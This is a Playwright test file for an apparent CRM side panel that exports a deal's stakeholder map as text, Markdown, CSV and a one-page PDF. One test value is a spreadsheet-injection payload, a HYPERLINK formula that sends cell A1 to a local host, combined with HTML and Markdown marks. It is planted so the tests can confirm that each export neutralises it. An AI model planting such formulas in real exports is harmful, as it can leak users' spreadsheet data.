import { readFileSync } from "node:fs";
import { basename } from "node:path";
import type { Page } from "@playwright/test";
import Papa from "papaparse";
import type { Chromium } from "./browser/chromium.ts";
import { IDS } from "./demo-crm/server.ts";
import { expect, open, test } from "./support/desk.ts";
import { downloaded, onlyFile } from "./support/downloads.ts";
import { heading, openPerson, people, roleChoice, statedTags } from "./support/panel.ts";

/** The map leaves the panel: for a chat, an e-mail, a spreadsheet, paper. */

// What is printed becomes a PDF file, and the browser's own dialog does not ask for it.
test.use({ setting: { lang: "en", flags: ["--kiosk-printing"] } });

const deal = "Plant-wide MES licence, phase 2";
/** What a page of the CRM may hold, and neither a spreadsheet nor Markdown may take for its own. */
const formula = '=HYPERLINK("http://127.0.0.1/?"&A1,"see")|<b>*bold*</b>';

const menu = (panel: Page) => panel.getByRole("dialog", { name: "Menu" });

/** Presses a button of the menu, which closes when the panel shows another record. */
async function press(panel: Page, name: string): Promise<void> {
  const button = panel.getByRole("button", { name: "Menu" });
  if (!(await menu(panel).isVisible())) await button.click();
  await menu(panel).getByRole("button", { name }).click();
}

/** What is in the system's clipboard, as it comes out in another program's text field. */
async function pasted(desk: Chromium): Promise<string> {
  const page = await desk.context.newPage();
  await page.goto("data:text/html,<textarea autofocus rows=40 cols=120></textarea>");
  const field = page.locator("textarea");
  await expect(field).toBeFocused();
  await desk.display.keys("ctrl+v");
  await expect(field).not.toHaveValue("");
  const text = await field.inputValue();
  await page.close();
  return text;
}

async function copied(desk: Chromium, panel: Page, button: string): Promise<string> {
  await press(panel, button);
  await expect(menu(panel).getByText("Copied.")).toBeVisible();
  return pasted(desk);
}

/** The text of a PDF, as the browser's own viewer copies it, once it says this. */
async function textOfPdf(desk: Chromium, file: string, says: RegExp): Promise<string> {
  const page = await desk.context.newPage();
  await page.goto(`file://${file}`);
  let text = "";
  await expect(async () => {
    await page.bringToFront();
    await desk.display.click(600, 850); // beside what might be a link
    await desk.display.keys("ctrl+a", "ctrl+c");
    text = await pasted(desk);
    expect(text).toMatch(says);
  }).toPass({ timeout: 20_000 });
  await page.close();
  return text;
}

test("a map is copied as text and as Markdown, saved as a table, and printed on one page", async ({
  crm,
  tab,
  panel,
  desk,
}) => {
  crm.org().get(IDS.wangFang)!.fields.Title = formula;
  await open(tab, crm.url("opportunity", IDS.phase2));
  await expect(people(panel)).toHaveCount(5);
  await openPerson(panel, "Chen Hao");
  await roleChoice(panel, "decision maker").getByRole("radio", { name: "Yes" }).check();
  await panel.getByRole("button", { name: "Back to the list" }).click();
  await expect(statedTags(panel, "Chen Hao")).toHaveText(["decision maker"]);

  const text = (await copied(desk, panel, "Copy as text")).split("\n");
  expect(text[0]).toBe(`${deal} (Huadong Manufacturing Group)`);
  expect(text).toContainEqual(
    expect.stringMatching(
      /^Chen Hao, Technical Director: \d+%; decision maker; stance: unknown; power: unknown; access: unknown$/u,
    ),
  );
  expect(text).toContainEqual(expect.stringContaining(`Wang Fang, ${formula}: `));
  expect(text).toContainEqual(
    expect.stringMatching(/^- Meet Chen Hao · .+ — \d+% of the decision/u),
  );

  const markdown = (await copied(desk, panel, "Copy as Markdown")).split("\n");
  expect(markdown[0]).toBe(`# ${deal}`);
  const rows = markdown.filter((line) => line.startsWith("|"));
  // Besides the head and the people, who perhaps decides and is none of them.
  expect(rows).toHaveLength(2 + 1 + 5);
  expect(rows[2]).toMatch(/^\| Perhaps somebody else decides \|  \| \d+%/u);
  // A page's own marks are text here: they make no cell, no bold words and no HTML.
  const cells = rows.map((row) => row.replaceAll(/\\./gu, "").split("|").length);
  expect(new Set(cells)).toEqual(new Set([9]));
  expect(rows.at(-1)).toContain(String.raw`"see")\|\<b\>\*bold\*\</b\>`);

  const into = { folder: test.info().outputPath("downloads"), ending: ".csv" };
  const table = await downloaded(desk, into, () => press(panel, "Save people as CSV"));
  expect(basename(table)).toBe(`${deal}.csv`);
  const { data, errors } = Papa.parse<string[]>(readFileSync(table, "utf8").trim());
  expect(errors).toEqual([]);
  const [head, ...lines] = data;
  expect(head).toEqual(["Person", "Title", "Share", "Roles", "Stance", "Power", "Access"]);
  expect(lines.map(([name]) => name).toSorted()).toEqual([
    "Chen Hao",
    "Li Wei",
    "Liu Yang",
    "Wang Fang",
    "Zhao Min",
  ]);
  expect(lines.find(([name]) => name === "Wang Fang")![1]).toBe(`'${formula}`);
  // What is not known is not left blank: that would look like the middle.
  expect(lines.find(([name]) => name === "Zhao Min")!.slice(4)).toEqual(Array(3).fill("unknown"));

  // A tab of its own prints it, since no browser prints a side panel, and is gone when it has.
  await press(panel, "Print…");
  const pdf = await onlyFile(desk.printed, `${deal}.pdf`);
  expect(basename(pdf)).toBe(`${deal}.pdf`);
  const content = () => readFileSync(pdf, "latin1");
  await expect.poll(content).toMatch(/%%EOF\s*$/u);
  expect(content().match(/\/Type \/Page\b/gu)).toHaveLength(1);
  await expect
    .poll(() => desk.context.pages().map((page) => page.url()))
    .toEqual([tab.url(), panel.url()]);
  await expect(heading(panel)).toHaveText(deal);
  const paper = await textOfPdf(desk, pdf, /^Person Title Share Roles Stance Power Access/mu);
  expect(paper).toMatch(/^Chen Hao Technical Director \d+% decision maker/mu);
  // In a narrow column it is on several lines; short words are not.
  expect(paper.replaceAll(/\s+/gu, "")).toContain(formula.replaceAll(/\s+/gu, ""));
  expect(paper).not.toMatch(/^\p{L}$/mu);
  expect(paper).toMatch(/^What is missing\s+You have met nobody here yet/mu);
  expect(paper).toMatch(/^Next steps\s+Meet Chen Hao · /mu);
  // Nothing to press.
  expect(paper).not.toMatch(/Menu|Undo|Accept|Dismiss|Later|Done|Add a person|Print/u);
});

test("of many people as many are printed as one page has room for", async ({
  crm,
  tab,
  panel,
  desk,
}) => {
  test.slow();
  const many = 120;
  const title = "MES service contract 2027";
  await open(tab, crm.url("opportunity", IDS.service));
  await expect(heading(panel)).toHaveText(title);
  await open(tab, `${crm.url("roles", IDS.service)}?roles=${many}`);
  const scroller = tab.locator(".lafPageHost.active .slds-scrollable_y").first();
  // Rows out of sight are not there to be read; a slow machine reads those that were passed the next time round.
  for (let step = 0; (await people(panel).count()) < many && step < 80; step++) {
    await scroller.evaluate((one, to) => one.scrollTo(0, to % one.scrollHeight), 300 * step);
    await tab.waitForTimeout(600);
  }
  await expect(people(panel)).toHaveCount(many);
  await press(panel, "Print…");
  const pdf = await onlyFile(desk.printed, `${title}.pdf`);
  const content = () => readFileSync(pdf, "latin1");
  await expect.poll(content).toMatch(/%%EOF\s*$/u);
  expect(content().match(/\/Type \/Page\b/gu)).toHaveLength(1);
});
